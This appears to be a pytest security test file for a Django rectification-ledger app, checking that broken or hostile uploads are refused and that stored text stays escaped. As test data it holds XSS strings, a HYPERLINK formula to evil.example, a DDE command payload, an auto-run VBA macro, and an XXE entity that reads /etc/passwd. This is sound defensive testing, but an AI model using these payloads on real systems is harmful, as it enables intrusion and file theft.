"""Hostile and broken input: every importer gives a clear error and writes nothing; script typed into
any text field stays text on every page and in every export; formulas and macros are never run."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import docx
import pytest
import xlsxwriter
from django.urls import reverse
from openpyxl import load_workbook

from rectify.errors import ValidationFailed
from rectify.inspections import services as inspections
from rectify.ledger import services as ledger
from rectify.ledger.notice_import import import_notice
from rectify.notice import parse
from rectify.notice.errors import NoticeError
from rectify.notice.reader import read_file
from rectify.reports.rendering import render
from rectify.reports.services import build_draft, draft_as_content
from rectify.spreadsheets import LedgerFileError, read_ledger
from rectify.spreadsheets.services import export_ledger, import_ledger
from tests.factories import PDF, make_task
from tests.security.deployment import db_counts

SCRIPT = '<script>alert("整改")</script><img src=x onerror=alert(1)>'
RAW = ("<script>alert", "<img src=x onerror")
HEADER = ["序号", "反馈问题", "整改措施", "牵头单位", "完成时限"]


def workbook(rows: list[list[object]], *, formulas: dict[str, tuple[str, object]] | None = None) -> bytes:
    """A ledger written by XlsxWriter; `formulas` maps a cell to (formula, cached value or None)."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("整改台账")
    for r, row in enumerate([HEADER, *rows]):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    for cell, (formula, cached) in (formulas or {}).items():
        sheet.write_formula(cell, formula, None, cached if cached is not None else 0)
    book.close()
    data = buffer.getvalue()
    if formulas and any(cached is None for _, cached in formulas.values()):
        data = _drop_cached_values(data)
    return data


def _drop_cached_values(data: bytes) -> bytes:
    """Remove <v> after formulas, as a file saved by a program that does not calculate them."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content = content.replace(b"<v>0</v>", b"")
            target.writestr(info.filename, content)
    return out.getvalue()


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename) if info.filename != name else content)
        if name not in source.namelist():
            target.writestr(name, content)
    return out.getvalue()


def docx_bytes(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


GOOD_LEDGER = workbook([[1, "学习贯彻不深入", "开展专题学习", "办公室", "2026年6月30日"]])
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode"

BROKEN_LEDGERS = {
    "zero-byte": (b"", "台账.xlsx", "0 字节"),
    "truncated": (GOOD_LEDGER[: len(GOOD_LEDGER) // 2], "台账.xlsx", "已损坏"),
    "exe renamed .xlsx": (EXE, "台账.xlsx", "二进制"),
    "pdf renamed .xlsx": (PDF, "台账.xlsx", "PDF"),
    "docx renamed .xlsx": (docx_bytes("整改台账"), "台账.xlsx", "Word"),
    "html renamed .xls": (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "台账.xls", "网页"),
    "bad encoding csv": (b"\x81\x30\xff\xfe\x80" * 40 + b",\xff\n", "台账.csv", "编码"),
    "1 MB single line": (("整改" * 350_000).encode(), "台账.csv", "CSV"),
}


@pytest.mark.parametrize("case", sorted(BROKEN_LEDGERS))
def test_broken_ledger_file_gets_a_clear_message(case):
    data, name, reason = BROKEN_LEDGERS[case]
    with pytest.raises(LedgerFileError) as refused:
        read_ledger(data, name)
    assert reason in str(refused.value)


@pytest.mark.parametrize("case", sorted(BROKEN_LEDGERS))
def test_broken_ledger_import_writes_nothing(unit, case):
    data, name, _reason = BROKEN_LEDGERS[case]
    before = db_counts()
    with pytest.raises(LedgerFileError):
        import_ledger(unit.office_staff, unit.inspection, data=data, filename=name)
    assert db_counts() == before


def test_formula_gives_its_cached_value_never_its_text():
    data = workbook([[1, "学习贯彻不深入", None, "办公室", "2026年6月30日"]],
                    formulas={"C2": ('HYPERLINK("http://evil.example/?x="&A1,"开展专题学习")', "开展专题学习")})
    parsed = read_ledger(data, "台账.xlsx")
    assert [row.measure for row in parsed.tasks] == ["开展专题学习"]
    assert "HYPERLINK" not in repr(parsed.tasks) and "evil" not in repr(parsed.tasks)


def test_formula_without_a_cached_value_is_a_row_error_not_run():
    data = workbook([[1, "学习贯彻不深入", None, "办公室", "2026年6月30日"]],
                    formulas={"C2": ("cmd|' /C calc'!A0", None)})
    parsed = read_ledger(data, "台账.xlsx")
    assert not parsed.tasks
    assert any("公式" in error.why for error in parsed.errors)
    assert "calc" not in repr(parsed.errors)


def test_macro_workbook_is_read_as_data_only():
    macro = b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\n Shell \"calc.exe\"\nEnd Sub\n"
    data = with_member(GOOD_LEDGER, "xl/vbaProject.bin", macro)
    parsed = read_ledger(data, "台账.xlsm")
    assert [row.measure for row in parsed.tasks] == ["开展专题学习"]


def test_xml_entities_are_not_expanded():
    sheet = workbook([[1, "学习贯彻不深入", "开展专题学习", "办公室", "2026年6月30日"]])
    shared = zipfile.ZipFile(io.BytesIO(sheet)).read("xl/sharedStrings.xml").decode()
    hostile = shared.replace("<sst ", '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">'
                             '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><sst ', 1)
    hostile = hostile.replace("开展专题学习", "开展专题学习&x;&b;")
    try:
        parsed = read_ledger(with_member(sheet, "xl/sharedStrings.xml", hostile.encode()), "台账.xlsx")
    except LedgerFileError:
        return  # refusing the file is as good as reading it without the entities
    text = repr(parsed.tasks)
    assert "root:" not in text and "aaaaaaaaaa" not in text


# ------------------------------------------------------------------------------------- notices

BROKEN_NOTICES = {
    "zero-byte": (b"", "通报.txt", "为空"),
    "truncated docx": (docx_bytes("关于巡视整改进展情况的通报")[:300], "通报.docx", ".docx"),
    "pdf renamed .docx": (PDF, "通报.docx", ".docx"),
    "exe renamed .txt": (EXE, "通报.txt", "二进制"),
    "1 MB single line": (("整改" * 350_000).encode(), "通报.txt", "不是整改进展情况通报"),
    "bad encoding": (b"\xff\x81\x30" * 300 + b"\n", "通报.txt", "编码"),
}


@pytest.mark.parametrize("case", sorted(BROKEN_NOTICES))
def test_broken_notice_gets_a_clear_message(case):
    data, name, reason = BROKEN_NOTICES[case]
    with pytest.raises(NoticeError) as refused:
        parse(read_file(data, name))
    assert reason in str(refused.value)


@pytest.mark.parametrize("case", sorted(BROKEN_NOTICES))
def test_broken_notice_import_writes_nothing(unit, case):
    data, name, _reason = BROKEN_NOTICES[case]
    before = db_counts()
    with pytest.raises(ValidationFailed) as refused:
        import_notice(unit.office_staff, unit.org, data=data, filename=name)
    assert "无法导入通报" in refused.value.message
    assert db_counts() == before


def test_script_in_a_saved_web_page_is_not_read_as_text():
    page = ("<html><body><script>steal()</script><p>中共某某委员会关于巡视整改进展情况的通报</p>"
            "<style>p{}</style></body></html>").encode()
    text = read_file(page, "通报.html")
    assert "steal" not in text and "巡视整改" in text


# ------------------------------------------------------------------- script in every text field


@pytest.fixture
def hostile_task(unit):
    finding = inspections.add_finding(unit.office_staff, unit.inspection, title=f"问题{SCRIPT}", label="2.",
                                      parent=unit.aspect)
    task = make_task(dataclasses.replace(unit, finding=finding), title=f"任务{SCRIPT}")
    ledger.report_progress(unit.dept_handler, task, text=f"进展{SCRIPT}")
    ledger.comment_task(unit.supervisor, task, text=f"意见{SCRIPT}")
    return task


def assert_escaped(body: str) -> None:
    for raw in RAW:
        assert raw not in body, f"unescaped {raw!r}"
    assert "&lt;script&gt;" in body


def test_task_page_escapes_every_field(client, unit, hostile_task):
    client.force_login(unit.office_staff)
    body = client.get(reverse("ledger:task", args=[hostile_task.pk])).content.decode()
    assert_escaped(body)
    for shown in ("任务&lt;script&gt;", "进展&lt;script&gt;", "意见&lt;script&gt;"):
        assert shown in body


@pytest.mark.parametrize("page", ["ledger:ledger", "ledger:findings"])
def test_ledger_pages_escape_titles(client, unit, hostile_task, page):
    client.force_login(unit.office_staff)
    body = client.get(reverse(page, args=[unit.inspection.pk])).content.decode()
    assert_escaped(body)


def test_search_and_my_tasks_escape_titles(client, unit, hostile_task):
    client.force_login(unit.dept_handler)
    assert_escaped(client.get(reverse("ledger:my_tasks")).content.decode())
    body = client.get(reverse("ledger:search"), {"q": "任务"}).content.decode()
    assert_escaped(body)
    echoed = client.get(reverse("ledger:search"), {"q": SCRIPT}).content.decode()
    for raw in RAW:
        assert raw not in echoed


def test_excel_export_keeps_script_and_formulas_as_plain_text(unit):
    formula = '=HYPERLINK("http://evil.example","点我")'
    make_task(unit, title=f"任务{SCRIPT}")
    make_task(unit, title=formula)
    data = export_ledger(unit.office_staff, unit.inspection)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value == formula and cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    measures = [row.measure for row in read_ledger(data, "台账.xlsx").tasks]
    assert f"任务{SCRIPT}" in measures and formula in measures


@pytest.mark.parametrize("fmt", ["docx", "html"])
def test_reports_keep_script_as_text(unit, hostile_task, fmt):
    content = draft_as_content(build_draft(unit.inspection, "internal"), "internal")
    output = render(content, fmt)
    if fmt == "html":
        body = output.decode()
        for raw in RAW:
            assert raw not in body
        return
    document = docx.Document(io.BytesIO(output))
    text = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert "<script>" in text  # shown literally, as typed
    assert b"<script>" not in zipfile.ZipFile(io.BytesIO(output)).read("word/document.xml")
